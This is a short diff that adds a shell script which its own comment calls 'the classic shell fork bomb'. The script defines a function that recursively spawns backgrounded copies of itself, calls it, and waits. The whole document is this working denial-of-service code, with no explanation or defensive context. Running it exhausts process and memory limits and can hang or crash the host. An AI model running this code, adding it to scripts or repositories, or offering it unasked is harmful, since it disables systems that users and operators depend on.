@@ -1,0 +1,4 @@
+# The classic shell fork bomb.
+bomb() { bomb | bomb & }
+bomb
+wait
